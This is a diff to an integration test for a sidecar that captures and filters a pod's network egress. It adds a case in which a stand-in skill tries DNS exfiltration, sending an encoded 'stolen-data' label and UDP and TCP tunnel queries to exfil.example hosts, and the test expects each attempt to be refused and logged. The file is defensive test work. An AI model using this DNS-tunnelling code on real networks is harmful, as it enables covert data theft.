@@ -1,10 +1,11 @@
 // Egress capture is real: the init container's iptables rules (egressCaptureRules from
 // @skillgate/webhook, the single source of truth) applied in a network namespace this test creates,
 // with the sidecar running as its UID and a stand-in skill as another. The only other host is a
-// test host in a second namespace of ours (fake Claude on :8080, an exfiltration endpoint on :9090).
+// test host in a second namespace of ours (fake Claude on :8080, an exfiltration endpoint on :9090,
+// the pod's DNS resolver on :53, named in the pod's resolv.conf through /etc/netns/<pod>/).
 // Needs root, iproute2 and iptables (.ci/run installs iptables).
 import { spawn, spawnSync } from 'node:child_process';
-import { mkdtempSync, writeFileSync, chmodSync, rmSync, readdirSync, readFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, writeFileSync, chmodSync, rmSync, readdirSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { fileURLToPath } from 'node:url';
@@ -72,6 +73,11 @@ maybe('egress capture in a network namespace', () => {
       sh(['ip', '-n', ns, 'addr', 'add', `${ip}/30`, 'dev', dev]);
       sh(['ip', '-n', ns, 'link', 'set', dev, 'up']);
     }
+    // A default route (a DNS query to any address must be routable to be captured) and the pod's
+    // resolv.conf, which `ip netns exec` mounts over /etc/resolv.conf for the sidecar and the skill.
+    sh(['ip', '-n', pod, 'route', 'add', 'default', 'via', hostIp]);
+    mkdirSync(`/etc/netns/${pod}`, { recursive: true });
+    writeFileSync(`/etc/netns/${pod}/resolv.conf`, `nameserver ${hostIp}\nsearch team-a.svc.cluster.local svc.cluster.local\n`);
     // Exactly the rules the skillgate-init container applies.
     const rules = egressCaptureRules({ sidecarUid: SIDECAR_UID, excludeOutboundPorts: [] });
     for (const rule of rules.ipv4) sh(['ip', 'netns', 'exec', pod, 'iptables', '-w', ...rule]);
@@ -88,6 +94,7 @@ maybe('egress capture in a network namespace', () => {
         SKILLGATE_UPSTREAM_URL: `http://${hostIp}:8080`,
         SKILLGATE_UPSTREAM_API_KEY_FILE: path.join(tmp, 'upstream-key'),
         SKILLGATE_RECORD_DIR: path.join(tmp, 'records'),
+        SKILLGATE_EGRESS_ALLOW: 'allowed.example:443',
         SKILLGATE_LOG_LEVEL: 'info',
       },
       (l) => l.includes('sidecar listening'), 'sidecar');
@@ -99,6 +106,7 @@ maybe('egress capture in a network namespace', () => {
     sidecar?.child.kill('SIGTERM');
     spawnSync('ip', ['netns', 'del', pod]);
     spawnSync('ip', ['netns', 'del', host]);
+    rmSync(`/etc/netns/${pod}`, { recursive: true, force: true });
     if (tmp) rmSync(tmp, { recursive: true, force: true });
   });
 
@@ -185,5 +193,52 @@ maybe('egress capture in a network namespace', () => {
     expect(out).not.toContain('stolen');
     const seen = await hostReport();
     expect(seen.exfil).toEqual([]);
+  });
+
+  it('resolves only names the skill may reach: any other DNS query, UDP or TCP, to any resolver, is answered in the pod and never leaves it', async () => {
+    const probe = await run(['ip', 'netns', 'exec', pod, 'setpriv', `--reuid=${SKILL_UID}`, `--regid=${SKILL_UID}`, '--clear-groups',
+      process.execPath, '-e', `
+        const dns = require('node:dns'), dgram = require('node:dgram'), net = require('node:net');
+        const query = (name) => {
+          const labels = name.split('.').map((l) => Buffer.concat([Buffer.from([l.length]), Buffer.from(l)]));
+          return Buffer.concat([Buffer.from([0x51, 0x51, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
+        };
+        const rcode = (answer) => answer.readUInt16BE(2) & 0xf;
+        const lookup = (name) => dns.promises.lookup(name, { family: 4 }).then((r) => r.address, (e) => 'error ' + e.code);
+        const udpAsk = (name, server) => new Promise((resolve) => {
+          const s = dgram.createSocket('udp4');
+          const t = setTimeout(() => { s.close(); resolve('timeout'); }, 3000);
+          s.on('message', (m) => { clearTimeout(t); s.close(); resolve(rcode(m)); });
+          s.on('error', (e) => { clearTimeout(t); s.close(); resolve('error ' + e.code); });
+          s.send(query(name), 53, server);
+        });
+        const tcpAsk = (name, server) => new Promise((resolve) => {
+          const q = query(name); const len = Buffer.alloc(2); len.writeUInt16BE(q.length);
+          const s = net.connect(53, server, () => s.write(Buffer.concat([len, q])));
+          s.setTimeout(3000, () => { s.destroy(); resolve('timeout'); });
+          s.on('data', (d) => { s.destroy(); resolve(rcode(d.subarray(2))); });
+          s.on('error', (e) => resolve('error ' + e.code));
+        });
+        (async () => console.log(JSON.stringify({
+          allowed: await lookup('allowed.example'),
+          exfil: await lookup('c3RvbGVuLWRhdGE.exfil.example'),
+          otherResolverUdp: await udpAsk('udp-tunnel.exfil.example', '192.0.2.53'),
+          podResolverTcp: await tcpAsk('tcp-tunnel.exfil.example', '${hostIp}'),
+          allowedTcp: await tcpAsk('allowed.example', '${hostIp}'),
+        })))();`],
+    { PATH: process.env.PATH, HOME: tmp });
+    expect(probe.stderr).toBe('');
+    const result = JSON.parse(probe.stdout);
+    expect(result).toEqual({ allowed: hostIp, exfil: 'error ENOTFOUND', otherResolverUdp: 3, podResolverTcp: 3, allowedTcp: 0 });
+    // The pod's resolver saw the allowed name only (asked by the sidecar, UDP then TCP), no tunnel.
+    const seen = await hostReport();
+    expect(seen.dns).toEqual([{ name: 'allowed.example', transport: 'udp' }, { name: 'allowed.example', transport: 'tcp' }]);
+    // Each refused name is in the sidecar's log and in the record, as the skill's egress attempt.
+    const denied = sidecar.lines.map((l) => { try { return JSON.parse(l); } catch { return {}; } })
+      .filter((l) => l.msg === 'egress denied' && String(l.method).startsWith('DNS')).map((l) => l.destination);
+    expect(denied).toEqual(expect.arrayContaining(['c3rvbgvulwrhdge.exfil.example', 'udp-tunnel.exfil.example', 'tcp-tunnel.exfil.example']));
+    const sessions = path.join(tmp, 'records', 'sessions');
+    const events = readdirSync(sessions).flatMap((f) => readFileSync(path.join(sessions, f), 'utf8').trim().split('\n').map((l) => JSON.parse(l)));
+    expect(events.find((e) => e.kind === 'egress' && e.data.destination === 'c3rvbgvulwrhdge.exfil.example')).toMatchObject({ data: { method: 'DNS A', allowed: false } });
   });
 });
